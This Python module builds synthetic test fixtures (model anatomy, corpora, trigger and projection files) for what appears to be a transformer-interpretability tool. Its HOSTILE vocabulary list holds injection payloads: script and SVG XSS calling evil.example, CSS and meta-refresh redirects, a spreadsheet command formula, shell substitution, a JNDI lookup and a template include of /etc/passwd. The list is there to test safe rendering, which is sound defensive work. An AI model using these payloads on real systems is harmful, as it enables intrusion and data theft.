"""What the passes of a made-up run leave: model, corpora, triggers, values; its words are hostile."""

import re
from pathlib import Path

import numpy as np
import pandas as pd

from benchmarks.made_up_run import write_table
from ffkv.activations.trigger_file import FIXED_POINT, HISTOGRAM_EDGES, Negative, Triggers, write_triggers
from ffkv.base.files import datasets, hdf5, tables
from ffkv.branches.values.projections import Projections, write_projections
from ffkv.corpus.corpus_file import Corpus, read_corpus, write_corpus
from ffkv.corpus.encode import Encoded
from ffkv.model.anatomy import Anatomy, Layer, SecondMatrix, write_anatomy
from ffkv.model.checkpoint.vocabulary import Vocabulary

HOSTILE = [
    " </script><script>alert(1)</script>",
    ' <img src="http://evil.example/x" onerror="alert(1)">',
    ' "onmouseover="alert(1)',
    " \u202egnp.exe",
    " nul\x00bell\x07",
    " $\\frac{1}{",
    " line\nbreak",
    " {{ 7 * 7 }}",
    " NA",
    " <svg/onload=fetch('http://evil.example/svg')><a href=javascript:alert(1)>x</a>",
    " ]]></style></title></textarea><body onload=\"document.title='pwned'\">",
    " <style>@import 'http://evil.example/css';*{background:url(http://evil.example/bg)}</style>",
    " <iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe><base href=http://evil.example/>",
    " <meta http-equiv=refresh content='0;url=http://evil.example/'><link rel=prefetch href=//evil.example/a>",
    " שלום ו\u202dעולם مرحبا)",
    " e" + "\u0301\u0335" * 40,
    " " + "unbroken" * 150,
    " =cmd|' /C calc'!A0",
    " $(touch pwned) `x` ${jndi:ldap://evil.example/a} {% include '/etc/passwd' %}",
]
WORDS = " the of a in to part line each model file returns list string object when is not path name value"
VOCABULARY = ["<|end|>", *re.findall(r" \w+", WORDS), *HOSTILE]
MEMORIES, KEPT, PREFIXES = 32, 12, 400


def identities() -> dict:
    return {"model": "synthetic", "model_hash": "0123456789abcdef", "tokenizer_hash": "fedcba9876543210"}


def write_model(folder: Path, layers: int, signed: bool, gated: bool) -> None:
    (folder / "model").mkdir()
    kind = "gated" if gated else "plain"
    found = [
        Layer(
            n,
            f"h.{n}",
            [SecondMatrix(f"h.{n}.c_proj", [f"h.{n}.c_fc"], kind, MEMORIES, f"h.{n}.gate" if gated else "")],
            signed,
        )
        for n in range(layers)
    ]
    anatomy = Anatomy(
        checkpoint="embedded",
        revision="main",
        dtype="float32",
        trust_remote_code=False,
        architecture="GPT2LMHeadModel",
        activation="gelu_new",
        parameters=1_234_567,
        model_hash="0123456789abcdef",
        tokenizer_hash="fedcba9876543210",
        vocabulary=len(VOCABULARY),
        context=128,
        width=160,
        last_block="h.5",
        returns=2,
        layers=found,
        errors={"memories": 3.1e-7, "head": 0.0},
        versions={"ffkv": "0.1.0", "torch": "2.13.0"},
    )
    write_anatomy(folder / "model", anatomy)
    with hdf5.create(folder / "model" / "vocabulary.h5", "vocabulary", identities()) as file:
        datasets.write(file, Vocabulary(VOCABULARY))
    steps = np.repeat(np.arange(0, 1501, 100), 2)
    loss = 3 + 5 * np.exp(-steps / 300) + np.tile([0, 0.1], len(steps) // 2)
    curves = {"step": steps, "tokens": steps * 2048, "split": ["train", "validation"] * (len(steps) // 2)}
    tables.write(pd.DataFrame({**curves, "loss": loss, "perplexity": np.exp(loss)}), folder / "checkpoint/training.csv")


TITLE = "".join(HOSTILE)  # of one of both documents


def write_corpora(folder: Path, generator: np.random.Generator) -> Corpus:
    for split in ("train", "validation"):
        encoded = Encoded(names=["os.rst", "re.rst"], titles=[TITLE, ""])
        for number in range(60):
            ids = generator.integers(1, len(VOCABULARY), generator.integers(4, 30)).astype(np.int32)
            encoded.ids.append(ids)
            encoded.text.append("".join(VOCABULARY[token] for token in ids))
            encoded.ends.append(np.cumsum([len(VOCABULARY[token]) for token in ids]).astype(np.int32))
            encoded.document.append(number % 2)
            encoded.multiplicity.append(1)
        encoded.counts.update(documents=2, sentences=64, duplicate_sentences=3, one_token_sentences=1)
        attributes = {
            **identities(),
            "split": split,
            "settings": {"dataset": "embedded"},
            "beginning": "<s> precedes it.",
        }
        write_corpus(folder / "corpus" / f"{split}.h5", encoded, [], False, attributes)
    return read_corpus(folder / "corpus" / "train.h5")


def write_some_triggers(folder: Path, corpus: Corpus, layers: int, signed: bool, gated: bool) -> None:
    generator = np.random.default_rng(8)
    keys = layers * MEMORIES
    prefixes = int((corpus.lengths - 1).sum())
    positive, negative = (_examples(corpus, keys, sign, gated, prefixes, generator) for sign in (1, -1))
    histogram = generator.poisson(40 * 0.6 ** np.arange(len(HISTOGRAM_EDGES) - 1), (keys, len(HISTOGRAM_EDGES) - 1))
    write_triggers(
        folder / "triggers.h5",
        Triggers(
            **positive,
            layer_offset=np.arange(layers + 1) * MEMORIES,
            total=(positive["coefficient"].sum(1) / FIXED_POINT).astype(np.int64),
            maximum=positive["coefficient"][:, 0],
            histogram=histogram,
            prefixes=prefixes,
            attributes={**identities(), "corpus_hash": corpus.attributes["corpus_hash"], "settings": {}},
            negative=Negative(**negative, minimum=negative["coefficient"][:, 0]) if signed else None,
        ),
    )


def _examples(
    corpus: Corpus, keys: int, sign: int, gated: bool, prefixes: int, generator: np.random.Generator
) -> dict[str, np.ndarray]:
    sentence = np.argsort(generator.random((keys, len(corpus))))[:, :KEPT].astype(np.int32)
    position = generator.integers(1, corpus.lengths[sentence]).astype(np.int32)
    next_token = corpus.next_token(sentence, position)
    coefficient = sign * np.sort(generator.gamma(2, 1, (keys, KEPT)))[:, ::-1].astype(np.float32)
    gate = generator.choice([-1, 1], (keys, KEPT)).astype(np.int8) * gated
    count = np.full(keys, KEPT)
    count[::MEMORIES] = 0  # the first key of each layer is dead
    count[1::MEMORIES] = 2
    absent = np.arange(KEPT) >= count[:, None]
    for values, nothing in ((coefficient, 0), (sentence, -1), (position, 0), (next_token, -1), (gate, 0)):
        values[absent] = nothing
    return {
        "coefficient": coefficient,
        "sentence": sentence,
        "position": position,
        "next_token": next_token,
        "multiplicity": (sentence >= 0).astype(np.int32),
        "next_count": (sentence >= 0).astype(np.int32),
        "gate": gate,
        "count": count,
        "fires": np.where(count, generator.integers(KEPT, prefixes, keys), 0),
    }


def write_some_projections(folder: Path, layers: int, signed: bool, generator: np.random.Generator) -> None:
    layer, memory = (grid.ravel() for grid in np.mgrid[:layers, :MEMORIES])
    columns = {
        "layer": layer, "memory": memory, "norm": 1.0, "top_token": memory % 20, "top_probability": 0.2,
        "triggers": np.where(memory == 0, 0, KEPT), "next_token": 3, "rank": 17, "agrees": memory % 2 == 0,
        "matching": 3, "first_match": 2, "bottom_token": memory % 7,
    }  # fmt: skip
    if signed:
        columns |= {"negative_triggers": np.where(memory == 0, 0, KEPT), "negative_next_token": 4}
        columns["negative_agrees"] = memory % 3 == 0
    write_table(folder, "values/by_memory/0.parquet", columns)
    top = generator.integers(0, len(VOCABULARY), (len(layer), 15)).astype(np.int32)
    projections = Projections(
        layer=layer,
        memory=memory,
        top=top[:, 0],
        tied=np.zeros(len(layer), bool),
        top_token=top,
        top_log_probability=np.log(0.3 / (1 + np.arange(15)))[None].repeat(len(layer), 0).astype(np.float32),
        bottom=top[:, -1],
        bottom_token=top[:, ::-1],
        bottom_log_probability=np.log(1e-9 * (1 + np.arange(15)))[None].repeat(len(layer), 0).astype(np.float32),
        norm=np.ones(len(layer), np.float32),
        **{f"logit_{moment}": np.ones(len(layer), np.float32) for moment in ("variance", "skewness", "kurtosis")},
        attributes=identities(),
    )
    write_projections(folder / "values/projections/0.h5", projections)
